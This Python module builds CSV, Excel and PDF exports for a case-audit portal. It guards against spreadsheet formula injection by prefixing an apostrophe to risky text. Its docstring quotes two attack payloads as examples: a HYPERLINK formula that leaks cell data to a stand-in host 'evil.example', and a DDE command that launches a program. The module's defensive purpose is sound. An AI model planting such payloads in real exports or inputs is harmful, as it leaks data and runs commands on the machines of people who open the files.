"""Export helpers: CSV and Excel downloads, and the printable feedback sheet.

Everything here is pure: callers read the database (through the services that
check permissions) and pass plain values in; these functions only turn those
values into bytes for a download button. Nothing here touches the database or
imports streamlit.

Spreadsheet formula injection
-----------------------------
Exports contain text that users typed (names, reasons, feedback). A spreadsheet
program treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and some also act on a leading tab or carriage return. A value such as
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` or a DDE payload
(``=cmd|' /C calc'!A0``) typed into a free-text box would then run, or leak
other cells, on the computer of whoever opens the export. :func:`safe_cell`
puts an apostrophe in front of such text: spreadsheet programs show it as
plain text and run nothing. Leading whitespace does not help an attacker
(``"  =1+1"`` is caught too). Only strings are changed: numbers, dates, booleans
and ``None`` pass through, so ``-2`` stays the number -2.

Times
-----
Timestamps are aware UTC in the database and are shown in UK local time where
a person reads them. A naive ``datetime`` is taken to be UTC (that is what the
database stores), then shown in UK local time.
"""

from __future__ import annotations

import csv
import io
import math
import re
import unicodedata
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, time
from decimal import Decimal
from enum import Enum
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import xlsxwriter
from fpdf import FPDF
from fpdf.enums import XPos, YPos
from fpdf.fonts import FontFace, TTFFont
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

UK = ZoneInfo("Europe/London")

Row = Sequence[Any] | Mapping[str, Any]

# ------------------------------------------------------------ formula safety

#: A string whose first non-whitespace character is one of these starts a
#: formula in Excel, LibreOffice or Google Sheets.
FORMULA_TRIGGERS = frozenset("=+-@")
#: A string whose very first character is one of these is also treated as
#: dangerous (some programs strip it and then read what follows as a formula).
LEADING_CONTROL_TRIGGERS = frozenset("\t\r")


def safe_cell(value: Any) -> Any:
    """Return ``value`` made safe to put in a spreadsheet cell.

    A string that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
    return (also after leading whitespace) gets a leading apostrophe, so
    spreadsheet programs show it as text instead of running it as a formula.
    Any other value (numbers, dates, booleans, ``None``) is returned unchanged:
    a real number is never a formula, so ``-2`` stays the number -2.
    """
    if not isinstance(value, str) or not value:
        return value
    if value[0] in LEADING_CONTROL_TRIGGERS:
        return "'" + value
    stripped = value.lstrip()
    if stripped[:1] in FORMULA_TRIGGERS:
        return "'" + value
    return value


# ------------------------------------------------------------ shared helpers


def _local(moment: datetime) -> datetime:
    """``moment`` in UK local time (naive input is taken to be UTC)."""
    if moment.tzinfo is None:
        moment = moment.replace(tzinfo=UTC)
    return moment.astimezone(UK)


def _row_values(columns: Sequence[str], row: Row, index: int) -> list[Any]:
    """The row's values in column order.

    A mapping is looked up by column name: a missing key gives a blank cell
    and keys that are not columns are left out. A sequence must have exactly
    one value per column (anything else is a programming error).
    """
    if isinstance(row, Mapping):
        return [row.get(column) for column in columns]
    if isinstance(row, str | bytes) or not isinstance(row, Sequence):
        raise TypeError(f"row {index} must be a list, tuple or dict, not {type(row).__name__}")
    if len(row) != len(columns):
        raise ValueError(f"row {index} has {len(row)} values for {len(columns)} columns")
    return list(row)


def _text(value: Any) -> str:
    """A non-number value as display text (used by CSV and as a fallback)."""
    if value is None:
        return ""
    if isinstance(value, Enum):
        value = value.value
    if isinstance(value, datetime):
        return _local(value).strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


# ----------------------------------------------------------------------- CSV


def to_csv(columns: Sequence[str], rows: Sequence[Row]) -> bytes:
    """A CSV file (UTF-8 with a byte-order mark, so Excel reads accents right).

    ``rows`` are lists/tuples in column order, or dicts keyed by column name.
    Every text cell, headings included, goes through :func:`safe_cell`. Numbers
    are written as numbers, dates as ``YYYY-MM-DD``, timestamps as UK local
    ``YYYY-MM-DD HH:MM:SS``, ``None`` as an empty cell.
    """
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([safe_cell(_text(column)) for column in columns])
    for index, row in enumerate(rows, start=1):
        writer.writerow([_csv_cell(value) for value in _row_values(columns, row, index)])
    return buffer.getvalue().encode("utf-8-sig")


def _csv_cell(value: Any) -> Any:
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, int | float | Decimal) and not isinstance(value, Enum):
        return value
    return safe_cell(_text(value))


# ---------------------------------------------------------------------- XLSX

SHEET_NAME_MAX = 31
_SHEET_NAME_BAD = re.compile(r"[\[\]:*?/\\\x00-\x1f\x7f]")
_MIN_WIDTH = 8
_MAX_WIDTH = 60
_DATE_FORMAT = "yyyy-mm-dd"
_DATETIME_FORMAT = "yyyy-mm-dd hh:mm"


def safe_sheet_name(name: Any) -> str:
    """``name`` made into a valid Excel sheet name.

    The characters ``[ ] : * ? / \\`` (and control characters) become ``-``,
    apostrophes are removed from both ends, the name is cut to 31 characters,
    a blank name becomes ``Sheet`` and the reserved name ``History`` becomes
    ``History-``. Uniqueness is handled by :func:`to_xlsx`.
    """
    text = _SHEET_NAME_BAD.sub("-", "" if name is None else str(name)).strip()
    text = text.strip("'").strip()[:SHEET_NAME_MAX].strip().strip("'").strip()
    if not text:
        return "Sheet"
    if text.casefold() == "history":
        return text + "-"
    return text


def _unique_sheet_name(name: str, taken: set[str]) -> str:
    candidate, number = name, 1
    while candidate.casefold() in taken:
        number += 1
        suffix = f" ({number})"
        candidate = name[: SHEET_NAME_MAX - len(suffix)].rstrip().rstrip("'") + suffix
    taken.add(candidate.casefold())
    return candidate


def to_xlsx(sheets: Mapping[str, tuple[Sequence[str], Sequence[Row]]]) -> bytes:
    """An Excel workbook with one worksheet per entry of ``sheets``.

    ``sheets`` maps a sheet name to ``(columns, rows)``; rows are as for
    :func:`to_csv`. Sheet names are made valid with :func:`safe_sheet_name`
    (and made unique). Text is always written as text (never as a formula or
    a link) and goes through :func:`safe_cell`. Numbers and booleans keep
    their type; dates get a ``yyyy-mm-dd`` format, timestamps are UK local
    ``yyyy-mm-dd hh:mm``. The heading row is bold and frozen, with a filter,
    and columns are sized to their contents (within limits).
    """
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(
        buffer,
        {
            "in_memory": True,
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
        },
    )
    bold = workbook.add_format({"bold": True})
    date_format = workbook.add_format({"num_format": _DATE_FORMAT})
    datetime_format = workbook.add_format({"num_format": _DATETIME_FORMAT})
    taken: set[str] = set()
    for raw_name, (columns, rows) in sheets.items():
        sheet = workbook.add_worksheet(_unique_sheet_name(safe_sheet_name(raw_name), taken))
        widths = [len(_text(column)) for column in columns]
        for col, column in enumerate(columns):
            sheet.write_string(0, col, safe_cell(_text(column)), bold)
        row_count = 0
        for row_count, row in enumerate(rows, start=1):
            values = _row_values(columns, row, row_count)
            for col, value in enumerate(values):
                shown = _write_xlsx_cell(sheet, row_count, col, value, date_format, datetime_format)
                widths[col] = max(widths[col], shown)
        if columns:
            sheet.freeze_panes(1, 0)
            sheet.autofilter(0, 0, row_count, len(columns) - 1)
        for col, width in enumerate(widths):
            sheet.set_column(col, col, min(max(width + 2, _MIN_WIDTH), _MAX_WIDTH))
    workbook.close()
    return buffer.getvalue()


def _write_xlsx_cell(
    sheet: Worksheet, row: int, col: int, value: Any, date_format: Format, datetime_format: Format
) -> int:
    """Write one cell with its proper type; return its display width."""
    if value is None:
        return 0
    if isinstance(value, Enum):
        value = value.value
    if isinstance(value, bool):
        sheet.write_boolean(row, col, value)
        return 5
    if isinstance(value, int | float | Decimal):
        number = float(value)
        if math.isfinite(number):
            sheet.write_number(row, col, number)
            return len(str(value))
        value = str(value)  # NaN and infinity cannot be stored as numbers
    elif isinstance(value, datetime):
        sheet.write_datetime(row, col, _local(value).replace(tzinfo=None), datetime_format)
        return len("yyyy-mm-dd hh:mm")
    elif isinstance(value, date):
        sheet.write_datetime(row, col, datetime.combine(value, time()), date_format)
        return len("yyyy-mm-dd")
    text = safe_cell(value if isinstance(value, str) else _text(value))
    sheet.write_string(row, col, text)
    longest_line = max((len(line) for line in text.splitlines()), default=0)
    return longest_line


# ----------------------------------------------------------------------- PDF

#: Used for full Unicode text when present; otherwise the built-in Helvetica
#: is used and text is reduced to Latin-1 with :func:`latin1_safe`.
DEJAVU_SANS = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
DEJAVU_SANS_BOLD = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans-Bold.ttf")

WHO_CAN_SEE = "The case holder, their SPO, the auditors and the PDU's quality-assurance leads."
NONE_RECORDED = "None recorded."
NO_REPLY = "No reply yet."

_REPLACEMENTS: dict[str, str] = {
    "\u2018": "'",
    "\u2019": "'",
    "\u201a": "'",
    "\u201b": "'",
    "\u2032": "'",
    "\u2039": "<",
    "\u201c": '"',
    "\u201d": '"',
    "\u201e": '"',
    "\u201f": '"',
    "\u2033": '"',
    "\u203a": ">",
    "\u2010": "-",
    "\u2011": "-",
    "\u2012": "-",
    "\u2013": "-",
    "\u2014": "-",
    "\u2015": "-",
    "\u2212": "-",
    "\u2026": "...",
    "\u2022": "*",
    "\u2023": ">",
    "\u2043": "-",
    "\u20ac": "EUR",
    "\u2122": "(TM)",
    "\u2190": "<-",
    "\u2192": "->",
    "\u2194": "<->",
    "\u21d2": "=>",
    "\u2264": "<=",
    "\u2265": ">=",
    "\u2260": "!=",
    "\u2248": "~",
    "\u2713": "v",
    "\u2714": "v",
    "\u2028": "\n",
    "\u2029": "\n",
    # Letters with no decomposition to a plain letter.
    "\u0141": "L",
    "\u0142": "l",
    "\u0110": "D",
    "\u0111": "d",
    "\u0131": "i",
    "\u0152": "OE",
    "\u0153": "oe",
    "\u0126": "H",
    "\u0127": "h",
}


def latin1_safe(text: str) -> str:
    """``text`` reduced to characters the built-in PDF fonts can show.

    Curly quotes become straight quotes, dashes ``-``, the ellipsis ``...``;
    accented letters outside Latin-1 lose their accent (``ā`` → ``a``); unusual
    spaces become plain spaces; invisible characters (control and formatting
    characters, emoji variation selectors) are dropped; anything else (emoji,
    other scripts) becomes ``?``. Line breaks are kept; tabs become spaces.
    """
    return _fit(text, lambda ch: ord(ch) < 256)


def _fit(text: str, supported: Callable[[str], bool]) -> str:
    out: list[str] = []
    for ch in _printable(text):
        if ch == "\n" or supported(ch):
            out.append(ch)
        elif ch in _REPLACEMENTS and all(supported(c) or c == "\n" for c in _REPLACEMENTS[ch]):
            out.append(_REPLACEMENTS[ch])
        elif unicodedata.category(ch) == "Zs":
            out.append(" ")
        elif unicodedata.category(ch) in ("Mn", "Me"):
            continue  # a combining accent or emoji modifier the font cannot show
        else:
            base = "".join(c for c in unicodedata.normalize("NFKD", ch) if not unicodedata.combining(c))
            out.append(base if base and all(supported(c) for c in base) else "?")
    return "".join(out)


def _printable(text: str) -> str:
    """Unify line breaks, turn tabs into spaces, drop other control characters
    and invisible formatting characters (zero-width spaces and joiners,
    direction overrides); a soft hyphen is kept as a hyphenation hint."""
    text = unicodedata.normalize("NFC", text.replace("\r\n", "\n").replace("\r", "\n"))
    text = text.replace("\t", "    ")
    return "".join(ch for ch in text if ch in "\n\u00ad" or unicodedata.category(ch) not in ("Cc", "Cf"))


@dataclass(frozen=True)
class FeedbackSheetDocument:
    """Everything printed on one case audit's feedback sheet (plain values).

    ``section_judgements`` are ``(section title, verdict, reason)``;
    ``actions`` are ``(description, owner name, due date, status)``.
    """

    case_ref: str
    pdu_name: str
    event_date: date
    holder_name: str
    spo_name: str | None
    auditors: list[str]
    status: str
    instrument_title: str
    instrument_version: int | str
    section_judgements: list[tuple[str, str, str]]
    good_practice: str | None
    improvement: str | None
    improvement_themes: list[str]
    concerns: str | None
    concern_themes: list[str]
    actions: list[tuple[str, str | None, date | None, str]]
    holder_reply: str | None
    generated_at: datetime


def long_date(value: date | None) -> str:
    """``3 March 2025`` (blank for ``None``)."""
    return "" if value is None else f"{value.day} {value:%B %Y}"


def _sentence(value: Any) -> str:
    text = _text(value).strip()
    return text[:1].upper() + text[1:]


_PAGE_COUNT = "\x00nb\x00"


class _SheetPdf(FPDF):
    """A4 portrait with the footer every page carries."""

    def __init__(self, footer_text: str, unicode_font: bool):
        super().__init__(orientation="portrait", unit="mm", format="A4")
        self.footer_text = footer_text
        self.sheet_font = "Helvetica"
        self.supported = lambda ch: ord(ch) < 256
        if unicode_font:
            self.add_font("DejaVu", "", DEJAVU_SANS)
            bold = DEJAVU_SANS_BOLD if DEJAVU_SANS_BOLD.is_file() else DEJAVU_SANS
            self.add_font("DejaVu", "B", bold)
            self.sheet_font = "DejaVu"
            regular_font, heavy_font = self.fonts["dejavu"], self.fonts["dejavuB"]
            # add_font with a font file registers a TrueType font, which has a character map.
            assert isinstance(regular_font, TTFFont) and isinstance(heavy_font, TTFFont)
            regular, heavy = regular_font.cmap, heavy_font.cmap
            self.supported = lambda ch: ord(ch) in regular and ord(ch) in heavy
        self.set_margins(18, 18, 18)
        self.set_auto_page_break(auto=True, margin=20)
        # The page-count placeholder contains a control character, which
        # ``_printable`` removes from all other text: "{nb}" typed by a user
        # must print as typed, not as the page count.
        self.alias_nb_pages(_PAGE_COUNT)

    def clean(self, value: Any) -> str:
        return _fit(_text(value), self.supported)

    def footer(self) -> None:
        self.set_y(-14)
        self.set_font(self.sheet_font, "", 8)
        self.set_text_color(90, 90, 90)
        width = self.w - self.l_margin - self.r_margin
        self.cell(width * 0.75, 5, self.clean(self.footer_text), align="L")
        self.cell(width * 0.25, 5, f"Page {self.page_no()} of {_PAGE_COUNT}", align="R")
        self.set_text_color(0, 0, 0)


def feedback_sheet_pdf(doc: FeedbackSheetDocument) -> bytes:
    """The feedback sheet as a PDF (A4 portrait).

    Order: heading, case line, who can see it, the audit's details, then
    "Good practice examples" (feedback leads with good practice), "Areas for
    improvement", "Concerns", "Action(s) required", "Section judgements" and
    "Case holder's reply". Every page has "Page N of M" and when and where it
    was generated. Text is printed exactly as typed (never read as markup);
    long text wraps and flows onto further pages. DejaVu Sans is used when
    installed (see :data:`DEJAVU_SANS`), otherwise Helvetica with text reduced
    by :func:`latin1_safe`; either way characters the font lacks become ``?``
    rather than failing the export.
    """
    generated = _local(doc.generated_at)
    footer = f"Generated {long_date(generated.date())} {generated:%H:%M} from the Practice Quality Portal"
    pdf = _SheetPdf(footer, unicode_font=DEJAVU_SANS.is_file())
    pdf.set_title(pdf.clean(f"LEARN case audit feedback: case {doc.case_ref}"))
    pdf.set_creator("Practice Quality Portal")
    pdf.set_creation_date(generated.astimezone(UTC))
    pdf.add_page()
    width = pdf.w - pdf.l_margin - pdf.r_margin

    def paragraph(text: Any, size: float = 10, style: str = "", height: float = 5) -> None:
        pdf.set_font(pdf.sheet_font, style, size)
        pdf.multi_cell(width, height, pdf.clean(text), align="L", new_x=XPos.LMARGIN, new_y=YPos.NEXT)

    def heading(text: str) -> None:
        if pdf.will_page_break(22):  # keep a heading with the text under it
            pdf.add_page()
        pdf.ln(4)
        paragraph(text, size=13, style="B", height=7)
        pdf.ln(1)

    def body(text: str | None, empty: str = NONE_RECORDED) -> None:
        paragraph(text if text and text.strip() else empty)

    def themes(names: Sequence[str]) -> None:
        shown = [_text(name).strip() for name in names if _text(name).strip()]
        if shown:
            pdf.ln(1)
            paragraph("Themes: " + ", ".join(shown), size=9)

    def table(headings: Sequence[str], col_widths: Sequence[float], rows: Sequence[Sequence[Any]]) -> None:
        if not rows:
            body(None)
            return
        pdf.set_font(pdf.sheet_font, "", 9)
        with pdf.table(
            col_widths=col_widths,
            width=width,
            align="LEFT",
            text_align="LEFT",
            line_height=4.5,
            padding=1.5,
            headings_style=FontFace(emphasis="BOLD", fill_color=(230, 230, 230)),
            markdown=False,
        ) as grid:
            header = grid.row()
            for title in headings:
                header.cell(title)
            for values in rows:
                line = grid.row()
                for value in values:
                    line.cell(pdf.clean(value))

    paragraph("LEARN case audit feedback", size=18, style="B", height=9)
    paragraph(f"Case {doc.case_ref} \u00b7 {doc.pdu_name} \u00b7 audit event {long_date(doc.event_date)}", size=11)
    pdf.set_text_color(90, 90, 90)
    paragraph(f"Who can see this: {WHO_CAN_SEE}", size=8, height=4)
    pdf.set_text_color(0, 0, 0)
    pdf.ln(2)
    details = [
        ("Case holder", doc.holder_name),
        ("SPO", doc.spo_name or "Not recorded"),
        ("Auditors", ", ".join(_text(name) for name in doc.auditors) or "Not recorded"),
        ("Status", _sentence(doc.status)),
        ("Instrument", f"{_text(doc.instrument_title)}, version {_text(doc.instrument_version)}"),
    ]
    for label, value in details:
        paragraph(f"{label}: {_text(value)}", size=10)

    heading("Good practice examples")
    body(doc.good_practice)
    heading("Areas for improvement")
    body(doc.improvement)
    themes(doc.improvement_themes)
    heading("Concerns")
    body(doc.concerns)
    themes(doc.concern_themes)
    heading("Action(s) required")
    table(
        ("Action", "Owner", "Due", "Status"),
        (95, 35, 25, 19),
        [(desc, owner, long_date(due), _sentence(status)) for desc, owner, due, status in doc.actions],
    )
    heading("Section judgements")
    table(("Section", "Judgement", "Reason"), (50, 25, 99), [tuple(j) for j in doc.section_judgements])
    heading("Case holder's reply")
    body(doc.holder_reply, empty=NO_REPLY)
    return bytes(pdf.output())


def text_document_pdf(title: str, subtitle: str, blocks: Sequence[tuple[str, str]], footer_text: str) -> bytes:
    """A plain document: a title, then headed blocks of text, flowing across pages.

    Text is printed as typed, never read as markup.
    """
    pdf = _SheetPdf(footer_text, unicode_font=DEJAVU_SANS.is_file())
    pdf.add_page()
    width = pdf.w - pdf.l_margin - pdf.r_margin
    pdf.set_font(pdf.sheet_font, "B", 16)
    pdf.multi_cell(width, 8, pdf.clean(title))
    pdf.set_font(pdf.sheet_font, "", 10)
    pdf.multi_cell(width, 5, pdf.clean(subtitle))
    pdf.ln(3)
    for heading, text in blocks:
        pdf.set_font(pdf.sheet_font, "B", 12)
        pdf.multi_cell(width, 6, pdf.clean(heading))
        pdf.set_font(pdf.sheet_font, "", 10)
        pdf.multi_cell(width, 5, pdf.clean(text or NONE_RECORDED))
        pdf.ln(2)
    return bytes(pdf.output())


def meeting_pack_pdf(title: str, scope_line: str, charts: Sequence[tuple[str, bytes]], footer_text: str) -> bytes:
    """One chart per page (A4 landscape), each under its heading, after a dated scope header."""
    import io

    pdf = _SheetPdf(footer_text, unicode_font=DEJAVU_SANS.is_file())
    pdf.set_auto_page_break(auto=False)
    for heading, png in charts:
        pdf.add_page(orientation="landscape")
        width = pdf.w - pdf.l_margin - pdf.r_margin
        pdf.set_font(pdf.sheet_font, "", 9)
        pdf.multi_cell(width, 5, pdf.clean(f"{title} · {scope_line}"))
        pdf.set_font(pdf.sheet_font, "B", 15)
        pdf.multi_cell(width, 8, pdf.clean(heading))
        top = pdf.get_y() + 2
        pdf.image(io.BytesIO(png), x=pdf.l_margin, y=top, w=width, h=pdf.h - top - 22, keep_aspect_ratio=True)
    if not charts:
        pdf.add_page()
        pdf.set_font(pdf.sheet_font, "", 12)
        pdf.multi_cell(0, 6, pdf.clean(f"{title} · {scope_line}: no charts were chosen."))
    return bytes(pdf.output())
